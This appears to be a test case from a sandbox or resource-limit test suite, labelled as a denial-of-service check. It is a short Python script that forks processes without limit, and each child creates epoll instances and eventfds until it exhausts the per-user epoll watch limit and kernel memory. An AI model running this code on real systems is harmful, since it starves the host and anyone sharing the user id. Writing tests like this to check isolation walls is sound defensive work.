# SPDX-License-Identifier: Apache-2.0
# expect: timeout | memory
# expect-measured: timeout
# class: dos
# walls: rlimit
# limits: timeout=40s
# unwalled: never
# check: neighbour
"""Takes all the epoll watches that a user may have: kernel memory, and whoever shares the uid."""
import select

children = []
reader, writer = os.pipe()
while True:
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        polls, fds = [], []
        try:
            while True:
                polls.append(select.epoll())
                fds.append(os.eventfd(0))
        except OSError:
            pass
        try:
            for poll in polls:
                for fd in fds:
                    poll.register(fd, select.EPOLLIN)
        except OSError:
            pass
        os.write(writer, b"x")
        signal.pause()
    children.append(pid)
for child in children:
    os.read(reader, 1)
print("READY", flush=True)
signal.pause()
